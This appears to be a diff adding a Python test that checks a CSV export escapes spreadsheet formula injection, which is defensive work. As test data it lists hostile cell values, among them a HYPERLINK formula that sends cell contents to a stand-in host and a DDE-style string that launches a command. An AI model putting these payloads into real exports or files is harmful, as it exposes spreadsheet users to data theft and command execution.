@@ -524,3 +524,22 @@ def test_a_damaged_faiss_file_is_one_error_line_even_under_a_matching_checksum(t
     ims[3].save(tmp_path / "q.png")
     one_error(run_cli("memlab", "match", "--index", str(tmp_path / "idx"), "--images", str(tmp_path / "q.png")),
               "pixel.faiss", "FAISS")
+
+
+def test_an_exports_table_never_hands_a_spreadsheet_a_formula():
+    """summary.csv's training id comes from the index's listing, which may come from elsewhere: a cell that a
+    spreadsheet would run as a formula (= + - @, a tab or carriage return first) is written as text with a
+    leading apostrophe; ordinary ids and numbers, negative scores included, are written as they are."""
+    import csv
+    import io
+
+    from memlab.export import spreadsheet_text
+
+    hostile = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1",
+               "\r=1"]
+    assert all(spreadsheet_text(v) == "'" + v for v in hostile)
+    assert [spreadsheet_text(v) for v in ("img-7", "7", 7, -0.204, "a=b")] == ["img-7", "7", 7, -0.204, "a=b"]
+    out = io.StringIO()
+    csv.writer(out).writerow([spreadsheet_text(v) for v in hostile])
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+                   for cell in next(csv.reader(io.StringIO(out.getvalue()))))
